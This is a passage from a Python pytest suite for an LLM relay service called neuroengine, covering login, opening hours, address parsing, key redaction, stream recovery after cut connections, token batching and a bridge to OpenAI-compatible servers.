    assert server.login(hand.name, hand.key + "\n") == 0
    assert server.login("nosuch", "wrong") == -40
    assert "register nosuch --relay " + relay.url in server.error
    assert server.login("", hand.key) == -10 and "Pass its name" in server.error
    assert server.login(hand.name, hand.key) == 0


def test_a_key_that_stops_being_right_ends_listen_in_words(relay, hand):
    server, ended = NeuroengineServer(relay.url), []
    server.login(hand.name, hand.key)

    def listen():
        with pytest.raises(NeuroengineError, match="service key"):
            server.listen(count_to(1))
        ended.append(True)
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    service = relay.broker.find(hand.name)
    until(lambda: service.idle)
    ask(relay, "/api/services/" + hand.name, {"new_key": True}, "PATCH",
        Authorization="Bearer " + hand.key)
    thread.join(SOON)
    assert ended


@pytest.mark.parametrize("hours, now, is_open, change", [
    ("", "3:00", True, None),
    ("22-8", "22:00", True, "8:00"), ("22-8", "21:59", False, "22:00"),
    ("22-8", "0:00", True, "8:00"), ("22-8", "7:59", True, "8:00"),
    ("22-8", "8:00", False, "22:00"), ("22-8", "23:59", True, "8:00"),
    ("9-17", "12:00", True, "17:00"), ("9-17", "17:00", False, "9:00"),
    ("22:30-8", "22:29", False, "22:30"), ("22:30-8:05", "8:04", True, "8:05"),
    ("9-12,14-17", "12:00", False, "14:00"), ("9-12, 14-17", "16:00", True, "17:00"),
    ("9-12,14-17", "18:00", False, "9:00"), ("9-12,11-14", "11:30", True, "14:00"),
    ("9-24", "23:59", True, "0:00"), ("0-8", "23:00", False, "0:00"),
    ("0-24", "12:00", True, None), ("8-8", "8:00", True, None)])
def test_when_it_is_open_and_when_that_changes(hours, now, is_open, change):
    def minute(text):
        return text and 60 * int(text.split(":")[0]) + int(text.split(":")[1])
    spans = neuroengine.parse_hours(hours) if hours else ()
    assert neuroengine.opening(spans, minute(now)) == (is_open, minute(change))


@pytest.mark.parametrize("text", ["x", "", "8", "22-25", "8:60-9", "24:01-3", "8-9,", "-1-3"])
def test_what_are_no_hours_is_said(text):
    with pytest.raises(NeuroengineError, match="are no hours"):
        neuroengine.parse_hours(text)


def test_at_closing_time_running_jobs_are_finished_and_no_more_are_taken(
        relay, monkeypatch):
    clock, go, got = [60 * 21], threading.Event(), []
    monkeypatch.setattr(neuroengine, "local_minute", lambda: clock[0])
    monkeypatch.setattr(neuroengine, "LOOK_SECONDS", 0.02)

    def answer(request):
        got.append(request["message"])
        yield "a"
        assert go.wait(SOON)
        yield "b"
    key = ask(relay, "/api/services", {"name": name_of("H")})[1]
    provider = NeuroengineServer(relay.url)
    provider._hours = neuroengine.parse_hours("9-22")
    provider._ready = lambda: neuroengine.wait_for_opening(provider._hours)
    assert provider.login(key["name"], key["key"]) == 0
    thread = threading.Thread(target=provider.listen, args=(answer, 2), daemon=True)
    thread.start()
    service = relay.broker.find(key["name"])
    api = client_of(relay, key["name"])
    try:
        first = in_thread(api.request, "first")
        until(lambda: got)
        clock[0] = 60 * 22
        # Its worker that is free looks taken to the relay, from now on: no poll from
        # before is still on its way.
        until(lambda: [s for s in service.sessions.values() if s.free() < 1
                       and any(job == "closing" for job, _ in s.leases)])
        second = in_thread(api.request, "second")
        until(lambda: service.queue.size)
        time.sleep(0.1)                    # in which it might, wrongly, be handed out
        assert got == ["first"] and service.queue.size == 1
        go.set()
        assert first() == "ab"
        until(lambda: not service.sessions)
        assert got == ["first"] and service.queue.size == 1
        clock[0] = 60 * 9
        assert second() == "ab" and got == ["first", "second"]
        clock[0] = 60 * 22                 # and when it has nothing in hand: at once
        until(lambda: not service.sessions, 1)
    finally:
        provider.stop()
        clock[0] = 60 * 9
        thread.join(SOON)
    assert not thread.is_alive()


@pytest.mark.parametrize("address, port, url", [
    ("host.example", 443, "https://host.example:443"), ("host", 8443, "https://host:8443"),
    ("http://localhost:8000/", 443, "http://localhost:8000"),
    ("host:99", 443, "https://host:99"), ("[::1]:99", 443, "https://[::1]:99"),
    ("::1", 8443, "https://[::1]:8443"), ("host/", 443, "https://host:443"),
    ("host:99/", 443, "https://host:99"), ("http://host:8000\r", 443, "http://host:8000"),
    (" host \r\n", 443, "https://host:443"), ("http://host/v1/", 443, "http://host")])
def test_an_address_is_a_host_name_or_a_url(address, port, url):
    assert neuroengine.relay_url(address, port) == url


@pytest.mark.parametrize("address", [
    "http://", "htp://x", "http//localhost", "localhost:port", "http://localhost:8000:8000",
    "http://local host", "http://localhost:230000", "http://host:0", "http://host:", "",
    "http://x?y", "8000", 8000])
def test_what_is_no_address_is_an_error_in_words(address):
    reply = Neuroengine("x", address).request("hi")
    assert "is not an address of a relay: write http://HOST:PORT" in reply


def test_the_services_name_in_the_address_is_told_from_a_proxys_path(relay, hand):
    api = Neuroengine(hand.name, "%s/%s" % (relay.url, hand.name))
    words = "has a path, /%s, where the relay has nothing. Write %s:" % (hand.name, relay.url)
    assert words in api.request("hi")
    with pytest.raises(NeuroengineError, match=words):
        next(api.stream("hi"))
    server = NeuroengineServer(api._transport.base)
    assert server.login(hand.name, hand.key) < 0 and words in server.error


@pytest.mark.parametrize("url, error, words", [
    ("http://localhost:8000", ConnectionRefusedError(111, "Connection refused"),
     "No relay runs at http://localhost:8000 (connection refused). Start one there with "
     "`%s --port 8000`." % neuroengine.how_to_run("neuroengine_server.py")),
    ("https://relay.example", ConnectionRefusedError(111, "Connection refused"),
     "No relay runs at https://relay.example (connection refused). Are the address and the "
     "port right?"),
    ("https://relay.example", socket.gaierror(-2, "Name or service not known"),
     "The host relay.example was not found (name or service not known). Is the relay's address "
     "right?")])
def test_a_relay_that_is_not_there_is_told_by_what_is_known_of_it(url, error, words, monkeypatch):
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"):
        monkeypatch.delenv(name, raising=False)
    error = neuroengine.no_connection(url, error)
    for interface in (neuroengine.PYTHON, neuroengine.COMMAND_LINE):
        assert neuroengine.advise(error, interface).message == words
    assert error.name == "no_connection"


def test_advice_names_the_commands_that_pip_installs(monkeypatch):
    for module in (neuroengine, neuroengine_server):
        monkeypatch.setattr(module.os, "name", "posix")
        run = module.how_to_run
        assert run("neuroengine_server.py") == "python3 neuroengine_server.py"
        monkeypatch.setattr(module, "__file__", "/x/lib/site-packages/neuroengine.py")
        assert run("neuroengine_server.py") == "neuroengine-server"
    text = neuroengine_server.build_parser().format_help()
    assert "usage: neuroengine-server " in text and "Try it: neuroengine-server --demo" in text
    error = NeuroengineError(30, "Invalid key.", "invalid_key")
    assert "that `neuroengine register` printed" in neuroengine.advise(
        error, neuroengine.PYTHON, service="x", kind="service_key").message


def test_an_error_of_the_default_relay_says_that_it_is_the_default(monkeypatch):
    monkeypatch.delenv("NEUROENGINE_SERVER", raising=False)
    error = NeuroengineError(40, "There is no service x here.", "service_unknown")
    names = {"service": "x", "relay": "https://api.neuroengine.ai:443"}
    words = "NEUROENGINE_SERVER is not set, so this was the default relay"
    assert words in neuroengine.advise(error, neuroengine.PYTHON, **names).message
    monkeypatch.setenv("NEUROENGINE_SERVER", "api.neuroengine.ai")
    assert words not in neuroengine.advise(error, neuroengine.PYTHON, **names).message


def test_listen_refuses_what_is_no_callback_and_no_number_of_workers(relay, hand):
    server = NeuroengineServer(relay.url)
    server.login(hand.name, hand.key)
    with pytest.raises(TypeError, match="not generator: pass answer, not answer()"):
        server.listen(count_to(1)({}))
    for workers in (0, "4", None):
        with pytest.raises(ValueError, match="workers must be a whole number, at least 1"):
            server.listen(count_to(1), workers=workers)


def test_a_second_listen_of_one_server_is_refused_while_the_first_runs(relay, provide):
    name, server = provide(lambda request: "ok")
    assert client_of(relay, name).request("hi") == "ok"
    with pytest.raises(RuntimeError, match="runs already: pass workers=N"):
        server.listen(lambda request: "other")
    assert client_of(relay, name).request("hi") == "ok"


def test_openais_name_for_the_longest_answer_is_taken(relay, provide):
    name, _ = provide(lambda request: str(request["max_new_len"]))
    api = client_of(relay, name)
    assert api.request("hi") == "128" and api.request("hi", max_tokens=3) == "3"
    assert api.request("hi", max_new_len=5, max_tokens=9) == "5"


def test_a_prompt_for_nobody_is_an_error_in_words(relay):
    for name in ("", None):
        assert "Pass its name as service_name" in Neuroengine(name, relay.url).request("hi")


def test_a_key_in_the_place_of_a_name_is_never_shown(relay, hand):
    server = NeuroengineServer(relay.url)
    assert server.login(hand.key, hand.name) < 0 and hand.key not in server.error
    for name in (hand.key, "x " + hand.key):
        reply = Neuroengine(name, relay.url).request("hi")
        assert reply.errorcode and hand.key not in reply
        assert "ne_..." in reply or "A service name has" in reply
    error = NeuroengineError(1, "There is no %s." % hand.key)
    assert hand.key not in error.said + str(error)


def test_the_environment_replaces_the_default_address_only(monkeypatch):
    monkeypatch.setenv("NEUROENGINE_SERVER", "http://localhost:1")
    assert Neuroengine("x")._transport.base == "http://localhost:1"
    assert Neuroengine("x", "other")._transport.base == "https://other:443"


def test_workers_run_at_once(relay, provide):
    barrier = threading.Barrier(4, timeout=SOON)

    def answer(request):
        barrier.wait()
        return "x"
    name, _ = provide(answer, workers=4)
    waits = [in_thread(client_of(relay, name).request, "hi %d" % n) for n in range(4)]
    assert [wait() for wait in waits] == ["x"] * 4


class Proxy:
    """A TCP proxy before the relay, whose connections a test can cut."""

    def __init__(self, relay):
        self.target, self.pairs, self.open = relay.server_address[:2], set(), True
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = "http://127.0.0.1:%d" % self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                here = self.listener.accept()[0]
                if not self.open:
                    here.close()
                    continue
                there = socket.create_connection(self.target)
            except OSError:
                return
            self.pairs.add((here, there))
            for source, sink in ((here, there), (there, here)):
                threading.Thread(target=self.pump, args=(source, sink),
                                 daemon=True).start()

    def pump(self, source, sink):
        with contextlib.suppress(OSError):
            for data in iter(lambda: source.recv(65536), b""):
                sink.sendall(data)
        for sock in (source, sink):
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)

    def cut(self):
        for pair in list(self.pairs):
            self.pairs.discard(pair)
            for sock in pair:
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)

    def close(self):
        self.listener.close()
        self.cut()


@pytest.fixture
def proxy(relay):
    proxy = Proxy(relay)
    yield proxy
    proxy.close()


def slow_count(number, pause=0.005):
    def answer(request):
        for n in range(number):
            yield "%d " % n
            time.sleep(pause)
    return answer


def test_a_stream_whose_connection_is_cut_goes_on_without_gap_or_repeat(
        relay, provide, proxy):
    name, _ = provide(slow_count(300))
    texts = []
    for count, text in enumerate(Neuroengine(name, proxy.url).stream("x")):
        texts.append(text)
        if count in (3, 10, 40):
            proxy.cut()
    assert "".join(texts) == "".join("%d " % n for n in range(300))


def test_a_polled_stream_loses_and_repeats_nothing_whatever_is_cut(relay, provide, proxy):
    name, _ = provide(slow_count(200))
    api, texts = Neuroengine(name, proxy.url), []
    cutter = threading.Timer(0.3, proxy.cut), threading.Timer(0.8, proxy.cut)
    for timer in cutter:
        timer.start()
    while True:
        text = api.request("x", streamkey="c" * 40, gettokens=30)
        if not text:
            break
        texts.append(text)
    assert "".join(texts) == "".join("%d " % n for n in range(200))
    assert relay.broker.find(name).numreq == 1


def test_a_provider_keeps_what_it_could_not_send_while_the_relay_is_out_of_reach(
        relay, proxy):
    hand = Hand(relay)
    hand.logout()
    provider = NeuroengineServer(proxy.url)
    assert provider.login(hand.name, hand.key) == 0
    thread = threading.Thread(target=provider.listen, args=(slow_count(100, 0.01),),
                              daemon=True)
    thread.start()
    stream = client_of(relay, hand.name).stream("x")
    texts = [next(stream)]
    proxy.open = False
    proxy.cut()
    time.sleep(0.8)                        # an outage; the provider generates on
    proxy.open = True
    texts += list(stream)
    assert "".join(texts) == "".join("%d " % n for n in range(100))
    provider.stop()
    thread.join(SOON)


def taken_from(outbox):
    """(entries as the relay gets them, what settle wants to know)."""
    entries, taken = outbox.take()
    return [json.loads(entry) for entry in entries], taken


def test_outbox_repeats_until_settled_and_forgets_after_the_end():
    outbox = neuroengine.Outbox()
    work = neuroengine.Work("j", 1, 0, {})
    assert outbox.add(work) and not outbox.add(neuroengine.Work("j", 1, 0, {}))
    outbox.put(work, "a")
    entries, taken = taken_from(outbox)
    outbox.put(work, "b")
    outbox.settle(taken, sent=False)
    entries, taken = taken_from(outbox)
    assert entries == [{"job": "j", "attempt": 1, "at": 0, "items": ["a", "b"]}]
    outbox.settle(taken, sent=True)
    outbox.end(work)
    entries, taken = taken_from(outbox)
    assert entries == [{"job": "j", "attempt": 1, "at": 2, "items": [], "done": True}]
    outbox.settle(taken, sent=True)
    assert outbox.running() == []


def test_outbox_loses_and_doubles_nothing_that_many_threads_put_at_once():
    woken = threading.Event()
    outbox, got, many = neuroengine.Outbox(woken.set), {}, 2000
    before = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)

    def put(work):
        for number in range(many):
            assert outbox.put(work, str(number))
    try:
        for job in range(8):
            work = neuroengine.Work(str(job), 1, 0, {})
            outbox.add(work)
            threading.Thread(target=put, args=(work,), daemon=True).start()
        while sum(map(len, got.values())) < 8 * many:
            if outbox.rest():
                assert woken.wait(SOON)    # else something was left lying
                woken.clear()
            entries, taken = taken_from(outbox)
            sent = random.random() < 0.8
            for entry in entries if sent else ():
                assert entry["at"] == len(got.setdefault(entry["job"], []))
                got[entry["job"]] += entry["items"]
            outbox.settle(taken, sent)
    finally:
        sys.setswitchinterval(before)
    assert all(items == [str(n) for n in range(many)] for items in got.values())


def test_outbox_wakes_its_sender_for_first_items_and_ends_and_else_lets_it_gather():
    wakes = []
    outbox = neuroengine.Outbox(lambda: wakes.append(1))
    works = [neuroengine.Work(job, 1, 0, {}) for job in "ab"]
    for work in works:
        outbox.add(work)
    assert outbox.rest()
    outbox.put(works[0], "x")
    assert len(wakes) == 1                 # it was idle
    outbox.settle(taken_from(outbox)[1], sent=True)
    assert outbox.rest(gather=True)
    outbox.put(works[0], "y")
    assert len(wakes) == 1 and not outbox.rest()       # it comes by itself
    assert outbox.rest(gather=True)
    outbox.put(works[1], "first")
    assert len(wakes) == 2 and not outbox.rest(gather=True)
    outbox.settle(taken_from(outbox)[1], sent=True)
    assert outbox.rest(gather=True)
    outbox.end(works[0])
    assert len(wakes) == 3


@pytest.mark.parametrize("sent", [True, False])
def test_outbox_takes_no_item_twice_while_several_requests_are_under_way(sent):
    outbox, work = neuroengine.Outbox(), neuroengine.Work("j", 1, 0, {})
    outbox.add(work)
    outbox.put(work, "a")
    taken = taken_from(outbox)[1]
    outbox.end(work)                       # which is urgent
    assert taken_from(outbox) == ([], [])
    outbox.settle(taken, sent)
    entries, taken = taken_from(outbox)
    assert entries == [{"job": "j", "attempt": 1, "at": int(sent), "done": True,
                        "items": [] if sent else ["a"]}]
    outbox.settle(taken, sent=True)
    assert outbox.running() == [] and outbox.tokens == 1


def test_outbox_says_the_last_word_of_an_answer_cancelled_at_its_end():
    outbox = neuroengine.Outbox()
    work = neuroengine.Work("j", 1, 0, {})
    outbox.add(work)
    outbox.put(work, "a")
    outbox.end(work)
    outbox.cancel([("j", 1)])
    entries, taken = taken_from(outbox)
    assert entries[0]["items"] == [] and entries[0]["error"] and "done" not in entries[0]
    outbox.settle(taken, sent=True)
    assert outbox.running() == []


@pytest.mark.parametrize("error", [None, neuroengine.CANCELLED], ids=["whole", "cancelled"])
def test_an_answer_that_the_relay_refused_stays_an_error_and_is_stopped(error):
    outbox, work, stopped = neuroengine.Outbox(), neuroengine.Work("j", 1, 0, {}), []
    work.stop = lambda: stopped.append(True)
    outbox.add(work)
    outbox.put(work, "a")
    outbox.settle(outbox.take()[1], sent=False)
    outbox.spoil(work, "too large")
    assert stopped and not outbox.put(work, "b")
    outbox.end(work, error)                # its maker may be at the end already
    entries, taken = taken_from(outbox)
    assert entries[0]["error"]["message"] == "too large" and "done" not in entries[0]
    outbox.settle(taken, sent=True)
    assert outbox.running() == []


def test_outbox_holds_a_worker_up_while_the_relay_takes_nothing(monkeypatch):
    monkeypatch.setattr(neuroengine, "MAX_UNSENT_BYTES", 10)
    outbox, work = neuroengine.Outbox(), neuroengine.Work("j", 1, 0, {})
    outbox.add(work)
    outbox.put(work, "more than ten bytes")
    assert outbox.is_full(work)
    waiting = in_thread(lambda: outbox.wait_for_room(work) or "went on")
    until(lambda: outbox._room._waiters)
    outbox.settle(outbox.take()[1], sent=True)
    assert waiting() == "went on" and not outbox.is_full(work)


def test_outbox_sends_a_long_outage_in_pieces(monkeypatch):
    monkeypatch.setattr(neuroengine, "MAX_BATCH_BYTES", 14)
    outbox, got = neuroengine.Outbox(), []
    work = neuroengine.Work("j", 1, 0, {})
    outbox.add(work)
    for n in range(30):
        outbox.put(work, "abc")
    outbox.end(work)
    while outbox.running():
        entries, taken = taken_from(outbox)
        assert entries[0]["at"] == len(got) and len(entries[0]["items"]) <= 5
        got += entries[0]["items"]
        outbox.settle(taken, sent=True)
    assert got == ["abc"] * 30


@pytest.mark.parametrize("item", ["a", {"r": ""}, {"tool_calls": [{}]}])
def test_a_full_batch_of_the_smallest_items_is_within_the_relays_bounds(item):
    outbox = neuroengine.Outbox()
    work = neuroengine.Work("j", 1, 0, {})
    outbox.add(work)
    for _ in range(2 * neuroengine.MAX_BATCH_BYTES // (len(json.dumps(item)) + 1)):
        outbox.put(work, item)
    entries, _ = outbox.take()
    body = '{"replies":[%s]}' % ",".join(entries)
    assert len(neuroengine_server.parse_json(body.encode())["replies"][0]["items"]) > 10000


@pytest.mark.parametrize("item", [{"reasoning": {1, 2}}, {"x": float("nan")}, {"x": b""}, {
    "x": "y" * (21 << 20)}], ids=["set", "nan", "bytes", "20 MB"])
def test_an_item_that_the_relay_can_never_take_fails_its_job_alone(relay, provide, item):
    answers = [iter(["a", item]), "well"]
    name, _ = provide(lambda request: answers.pop(0))
    api = client_of(relay, name)
    assert "The provider could not answer" in api.request("hi", tries=1)
    assert api.request("hi") == "well"


def test_what_only_the_relay_can_refuse_fails_its_job_alone(relay, provide):
    """A million commas, say: it would be sent again for ever, and all others with it."""
    go = threading.Event()

    def answer(request):
        yield "a"
        assert go.wait(SOON)
        yield "b" if request["message"] == "good" else {"reasoning": "x" * (1 << 20)}
    name, _ = provide(answer, workers=2)
    api = client_of(relay, name)
    bad, good = (in_thread(api.request, text, tries=1) for text in ("bad", "good"))
    go.set()
    assert "the relay refused its answer" in bad() and good() == "ab"


def test_a_redirect_is_not_followed():
    class Redirecting(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.send_response(302)
            self.send_header("Location", "http://elsewhere.example/")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass
    with serving(Redirecting) as url:
        assert "elsewhere.example" in Neuroengine("x", url, key="k").request("hi", tries=1)


def test_connections_are_kept_alive(relay, hand, monkeypatch):
    connects, connect = [], http.client.HTTPConnection.connect
    monkeypatch.setattr(http.client.HTTPConnection, "connect",
                        lambda self: connects.append(self) or connect(self))
    api = client_of(relay, hand.name)
    for _ in range(5):
        api.getModels()
    assert len(connects) == 1


def test_a_stream_without_its_last_record_is_not_complete():
    asked = []

    class Cutting(http.server.BaseHTTPRequestHandler):
        """Ends the first stream well by HTTP's rules, but without its last record."""

        def do_POST(self):
            asked.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            records = [{"at": 0, "items": ["a"]}] if len(asked) == 1 else [
                {"at": 1, "items": ["b"]}, {"done": True}]
            data = b"".join(json.dumps(record).encode() + b"\n" for record in records)
            self.send_response(200)
            self.send_header("Content-Type", "application/x-ndjson")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args):
            pass
    with serving(Cutting) as url:
        assert "".join(Neuroengine("x", url).stream("hi")) == "ab"
    assert asked[1]["key"] == asked[0]["key"] and asked[1]["at"] == 1


##############################################################################
# Bridge
##############################################################################


@contextlib.contextmanager
def serving(handler, port=0):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    try:
        yield "http://127.0.0.1:%d" % server.server_port
    finally:
        server.shutdown()
        server.server_close()


class FakeLLM(http.server.BaseHTTPRequestHandler):
    """An OpenAI-compatible server that answers as `script` says."""

    protocol_version = "HTTP/1.1"
    got, script, gone = [], [], threading.Event()
    owner, template, paths = "llamacpp", "<user>a<assistant>%s", ()
    model = "/secret/model.gguf"

    def do_GET(self):
        if self.path == "/v1/models":
            self.json(200, {"data": [{"id": type(self).model, "owned_by": type(self).owner}]})
        else:
            self.json(404, {"error": "no"})

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if self.path == "/v1/embeddings":
            return self.json(501, {"error": "no embeddings"})
        if not body:                           # somebody looks what there is
            return self.json(400 if self.path in self.paths else 404, {"error": "no"})
        if self.path == "/apply-template":
            return self.json(200, {"prompt": self.template % body["messages"][-1][
                "content"]} if self.template else {"error": "old"})
        self.got.append((self.path, body))
        answer = self.script.pop(0) if self.script else ["Hel", "lo"]
        if callable(answer):
            return answer(self)
        if isinstance(answer, tuple):
            return self.json(*answer)
        self.stream(answer)

    def json(self, status, value):
        data = value if isinstance(value, bytes) else json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def stream(self, texts, end="stop", last=b"data: [DONE]\n\n"):
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()
        for text in texts:
            delta = text if isinstance(text, dict) else {"content": text}
            if "completions" in self.path and "chat" not in self.path:
                choice = {"index": 0, "text": text, "finish_reason": None}
            else:
                choice = {"index": 0, "delta": delta, "finish_reason": None}
            self.wfile.write(b": comment\n\ndata:%s\r\n\r\n" % json.dumps(
                {"model": "/secret/model.gguf", "choices": [choice]}).encode())
            self.wfile.flush()
        if end:
            self.wfile.write(b"data: %s\n\ndata: %s\n\n%s" % (
                json.dumps({"choices": [{"index": 0, "delta": {},
                                         "finish_reason": end}]}).encode(),
                json.dumps({"choices": [], "usage": {
                    "prompt_tokens": 3, "completion_tokens": 2, "total_tokens": 5,
                    "path": "/secret"}}).encode(), last))
        self.close_connection = True

    def log_message(self, *args):
        pass


@pytest.fixture
def llm(relay):
    """(the fake's class, the service's name, the Bridge), bridged to the relay."""
    fake = type("Fake", (FakeLLM,), {"got": [], "script": [], "gone": threading.Event()})
    with serving(fake) as url, bridged(relay, url) as (name, bridge):
        yield fake, name, bridge


@contextlib.contextmanager
def bridged(relay, url, **options):
    """An LLM server as a service of the relay: (the service's name, the Bridge)."""
    upstream = neuroengine.Upstream(url)
    upstream.find()
    name = name_of("B")
    server = NeuroengineServer(relay.url)
    bridge = neuroengine.Bridge(neuroengine.Share(upstream, 2), name, **options)
    listening = neuroengine._Listening(server, bridge)
    key = ask(relay, "/api/services", {"name": name})[1]["key"]
    assert server.login(name, key) == 0
    thread = threading.Thread(target=neuroengine.run_listenings, args=([listening],),
                              daemon=True)
    thread.start()
    until(lambda: server._listening)
    try:
        yield name, bridge
    finally:
        server.stop()
        thread.join(SOON)
    assert not thread.is_alive()


def rendering(kind="", model=None, **options):
    """A Rendering for a server of that kind."""
    return neuroengine.Rendering(model or neuroengine.Model("m"), kind, **options)


def test_the_bridge_translates_sampling_fields_and_hides_the_model(relay, llm):
    fake, name, _ = llm
    answer = client_of(relay, name).request("hi", max_new_len=7, seed=5)
    assert answer == "Hello"
    (path, body), = fake.got
    assert path == "/v1/chat/completions"
    assert body == {"model": "/secret/model.gguf", "stream": True, "temperature": 1.0,
                    "top_p": 0.9, "top_k": 40, "seed": 5, "max_tokens": 7,
                    "repeat_penalty": 1.2, "stream_options": {"include_usage": True},
                    "return_progress": True,
                    "messages": [{"role": "user", "content": "hi"}]}
    whole = ask(relay, "/v1/chat/completions", {
        "model": name, "messages": [{"role": "user", "content": "x"}]})[1]
    assert "secret" not in json.dumps(whole) and whole["usage"]["total_tokens"] == 5


def test_raw_prompts_go_to_completions(relay, llm):
    fake, name, _ = llm
    assert client_of(relay, name).request("once", raw=True) == "Hello"
    assert fake.got[0][0] == "/v1/completions" and fake.got[0][1]["prompt"] == "once"


@pytest.mark.parametrize("kind, names", [
    ("llama.cpp", {"repeat_penalty"}), ("vLLM", {"repetition_penalty"}), ("Ollama", set()),
    ("KoboldCpp", {"rep_pen"}), ("", {"repeat_penalty", "repetition_penalty"})])
def test_each_server_gets_the_penalty_by_its_own_name(kind, names):
    body = rendering(kind).question({"message": "x", "repetition_penalty": 1.3}).body
    assert {name for name in body if "pen" in name} == names


def test_the_bridge_absorbs_upstream_quirks(relay, llm):
    fake, name, bridge = llm
    bridge._rendering.kind = "LM Studio"
    fake.script.append([{"role": "assistant", "content": None}, {"reasoning": "hm"},
                        {"tool_calls": [{"id": "c", "function": {"name": "f"}}]}, "x"])
    answer = chat(relay, name, max_completion_tokens=5, response_format={
        "type": "json_object"}, messages=[{"role": "developer", "content": "y"}])[1]
    body = fake.got[0][1]
    assert body["max_tokens"] == 5 and "max_completion_tokens" not in body
    assert body["messages"][0]["role"] == "system"
    assert body["response_format"]["type"] == "json_schema"
    message = answer["choices"][0]["message"]
    assert message["reasoning_content"] == "hm" and message["content"] == "x"
    assert message["tool_calls"][0]["id"] == "c"


def test_a_field_that_nobody_chose_is_left_out_if_it_is_refused(relay, llm):
    fake, name, _ = llm
    fake.script += [(400, {"error": {"message": "unknown field top_k"}}),
                    (422, {"detail": [{"loc": ["body", "stream_options"], "msg": "extra"}]})]
    assert client_of(relay, name).request("hi") == "Hello"
    assert "top_k" not in fake.got[1][1] and "stream_options" not in fake.got[2][1]
    assert "top_p" in fake.got[2][1]


@pytest.mark.parametrize("field, value", [("grammar", "root ::= [0-9]"), ("top_k", 7),
                                          ("logit_bias", {"5": -100})])
def test_a_clients_field_is_never_left_out(relay, llm, field, value):
    fake, name, _ = llm
    fake.script.append((400, {"error": {"message": "unknown field %s" % field}}))
    status, answer, _ = chat(relay, name, **{field: value})
    assert status == 400 and field in answer["error"]["message"]
    assert len(fake.got) == 1 and fake.got[0][1][field] == value


def test_a_limit_that_goes_by_another_name_is_sent_by_that(relay, llm):
    fake, name, _ = llm
    fake.script.append((400, {"error": {"message": "Unsupported parameter: 'max_tokens'. "
                                        "Use 'max_completion_tokens' instead."}}))
    assert chat(relay, name, max_completion_tokens=5)[0] == 200
    assert fake.got[1][1]["max_completion_tokens"] == 5


def test_a_prompt_too_long_is_told_in_the_words_that_clients_look_for(relay, llm):
    fake, name, bridge = llm
    bridge.model.context_length = 512
    fake.script.append((400, {"error": {          # llama.cpp's own
        "code": 400, "type": "exceed_context_size_error", "message":
        "request (600 tokens) exceeds the available context size (512 tokens)"}}))
    status, answer, _ = chat(relay, name, top_k=5)
    assert (status, answer["error"]["code"]) == (400, "context_length_exceeded")
    assert "maximum context length is 512 tokens" in answer["error"]["message"]
    assert "context_length_exceeded" in answer["error"]["message"]     # for LangChain
    assert len(fake.got) == 1                     # no plainer words would help


def cut_short(handler):
    handler.stream(["a", "b"], end=None)


@pytest.mark.parametrize("answer, error", [
    ((500, {"error": {"message": "no /secret/model.gguf"}}), "provider_error"),
    ((500, b"<html>oops</html>"), "provider_error"),
    ((404, {"error": "string"}), "provider_error"),
    ((400, {"error": {"message": "exceeds the context size of 512"}}),
     "context_length_exceeded"),
    (cut_short, "provider_error"),
    (lambda handler: handler.connection.shutdown(socket.SHUT_RDWR), "provider_error"),
    ((200, b"<html>"), "provider_error"),
])
def test_an_upstream_that_fails_is_an_error_in_words_and_serving_goes_on(
        relay, llm, answer, error):
    fake, name, _ = llm
    fake.script += [answer, answer]        # a second time, if asked in plain words
    status, body, _ = ask(relay, "/" + name, {"message": "x"})
    if status != 200 or body["errorcode"]:
        assert body["error"] == error and "secret" not in body["reply"]
    del fake.script[:]
    assert client_of(relay, name).request("hi") == "Hello"


def test_cancelling_closes_the_upstreams_connection(relay, llm):
    fake, name, _ = llm
    gone = threading.Event()

    def endless(handler):
        try:
            handler.stream(iter(lambda: time.sleep(0.02) or "x", None))
        except OSError:
            gone.set()

    def prefill(handler):                  # says nothing until its peer has gone
        if handler.connection.recv(1) == b"":
            gone.set()
    for answer in (endless, prefill):
        gone.clear()
        fake.script.append(answer)
        sock = sent(relay, "/v1/chat/completions", {
            "model": name, "messages": [{"role": "user", "content": "x"}]})
        until(lambda: not fake.script)
        sock.close()
        assert gone.wait(patient(2))


def test_a_cancelled_connection_is_not_used_for_the_next_prompt(relay, llm):
    fake, name, upstream = llm
    for begin in (b"", b"5\r\n: hi\n\r\n", b"5\r\n: h"):

        def chunked(handler, begin=begin):     # as llama.cpp: the head, and then prefill
            handler.send_response(200)
            handler.send_header("Transfer-Encoding", "chunked")
            handler.end_headers()
            handler.wfile.write(begin)
            handler.connection.recv(1)
        fake.script.append(chunked)
        sock = sent(relay, "/v1/chat/completions", {
            "model": name, "messages": [{"role": "user", "content": "x"}]})
        until(lambda: not fake.script)
        time.sleep(0.05)                       # the head is there, most likely
        sock.close()
        until(lambda: not any(s.leases for s in
                              relay.broker.find(name).sessions.values()))
        assert chat(relay, name)[1]["choices"][0]["message"]["content"] == "Hello"


def stop_keeping_alive(bridge):
    """The fake's threads outlive its listener: let go of the connections to them."""
    for transport in (bridge.share._transport, bridge.share.upstream.transport):
        while transport._free:
            transport._free.pop().close()


def test_an_upstream_that_goes_away_takes_the_service_offline_until_it_is_back(
        relay, monkeypatch):
    monkeypatch.setattr(neuroengine, "RETRY_UPSTREAM_SECONDS", 0.05)
    fake = type("Fake", (FakeLLM,), {"got": [], "script": []})
    port = free_port()
    with contextlib.ExitStack() as stack:
        with serving(fake, port) as url:
            name, bridge = stack.enter_context(bridged(relay, url))
